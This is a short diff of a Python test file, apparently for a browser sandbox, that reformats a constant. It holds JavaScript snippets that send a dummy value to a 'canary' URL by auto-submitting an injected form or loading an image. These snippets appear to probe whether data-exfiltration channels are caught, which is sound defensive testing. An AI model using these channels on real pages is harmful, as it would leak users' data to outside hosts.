@@ -20,8 +20,10 @@ from tests.worlds.browser.site import Answer, ReceivedRequest, Site
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]
 
 ADD = "const add = (tag, of) => document.body.append(Object.assign(document.createElement(tag), of));"
-FORM = "const form = (how) => { document.body.innerHTML = `<form action=${canary}/form ${how}><input name=a value=4111></form>`;"
-FORM += "document.forms[0].submit() };"
+FORM = (
+    "const form = (how) => { document.body.innerHTML = `<form action=${canary}/form ${how}><input name=a value=4111></form>`;"
+    "document.forms[0].submit() };"
+)
 
 WAYS = {
     "image": "new Image().src = canary + '/image?4111'",
